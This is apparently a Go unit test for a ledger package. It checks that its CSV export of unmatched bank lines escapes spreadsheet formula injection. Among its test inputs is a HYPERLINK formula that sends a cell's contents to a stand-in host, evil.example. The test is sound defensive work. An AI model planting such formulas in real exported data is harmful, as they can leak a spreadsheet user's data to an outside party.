package reconcile_test

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/ordos-union/ledger/domain"
	"github.com/ordos-union/ledger/reconcile"
)

// A bank line's remark and counterparty come from the bank's file, that is
// from whoever sent the money: in the CSV export a cell starting with "="
// (or "+", "-", "@") is text behind a single quote, not a formula the
// finance officer's spreadsheet runs; the amounts stay plain numbers, a
// negative one included.
func TestCSVExportCarriesNoFormula(t *testing.T) {
	line := func(id, amount, counterparty, remark string) reconcile.Line {
		money, err := domain.ParseYuan(amount)
		if err != nil {
			t.Fatal(err)
		}
		return reconcile.Line{LineID: id, Account: "icbc-test-account", Serial: "ICBC-0621-0099",
			Date: time.Date(2022, 6, 21, 0, 0, 0, 0, domain.Beijing), Amount: money, Counterparty: counterparty, Remark: remark}
	}
	result := reconcile.Result{UnmatchedLines: []reconcile.Line{
		line("L-1", "123.45", "=1+2", `=HYPERLINK("http://evil.example/?x="&A1,"click")`),
		line("L-2", "-50.00", "@SUM(A1:A9)", "-退款"),
		line("L-3", "8.00", "王小明", "会费"),
	}}
	var out bytes.Buffer
	if err := result.WriteCSV(&out); err != nil {
		t.Fatal(err)
	}
	reader := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out.Bytes(), []byte("\ufeff"))))
	reader.FieldsPerRecord = -1 // each section has its own columns
	records, err := reader.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cells := map[string][]string{}
	for _, record := range records {
		if len(record) > 1 {
			cells[record[1]] = record
		}
	}
	// Section, line, account, serial, date, amount, counterparty, remark.
	want := map[string][3]string{
		"L-1": {"123.45", "'=1+2", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		"L-2": {"-50.00", "'@SUM(A1:A9)", "'-退款"},
		"L-3": {"8.00", "王小明", "会费"},
	}
	for id, wanted := range want {
		record := cells[id]
		if len(record) < 8 {
			t.Fatalf("no row for %s in\n%s", id, out.String())
		}
		if got := [3]string{record[5], record[6], record[7]}; got != wanted {
			t.Errorf("%s: amount, counterparty, remark = %q, want %q", id, got, wanted)
		}
	}
}
